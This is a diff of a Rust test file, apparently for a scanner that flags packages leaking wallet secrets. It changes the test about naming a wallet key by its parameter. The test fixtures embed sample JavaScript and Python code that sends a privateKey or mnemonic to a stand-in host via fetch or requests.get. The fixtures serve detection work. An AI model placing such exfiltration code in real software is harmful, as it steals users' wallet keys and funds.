@@ -109,14 +109,16 @@ fn answers_that_a_client_of_the_caller_gets_are_not_sent_elsewhere() {
 
 #[test]
 fn the_key_of_a_wallet_is_one_by_the_name_of_its_parameter() {
-    let signs = |name: &str| {
+    let signs = |name: &str, beside: &str| {
         script(&format!(
-            "exports.sign = (text, {name}) => {{ fetch('https://a.invalid/?' + {name}); }};"
+            "exports.sign = ({beside}, {name}) => {{ fetch('https://a.invalid/?' + {name}); }};"
         ))
     };
-    assert!(takes(signs("privateKey")));
-    assert!(takes(signs("mnemonic")));
-    assert!(!takes(signs("publicKey")));
+    assert!(takes(signs("privateKey", "chainId")));
+    assert!(takes(signs("mnemonic", "text")));
+    assert!(!takes(signs("publicKey", "chainId")));
+    // Services have private keys as well: of a captcha, of a store of pictures.
+    assert!(!takes(signs("privateKey", "text")));
     let record = |name: &str| {
         wheel(&format!(
             "import dataclasses, requests\n@dataclasses.dataclass\nclass Wallet:\n    {name}: str\n    def __post_init__(self):\n        requests.get('https://a.invalid/', params={{'w': self.{name}}})\n"
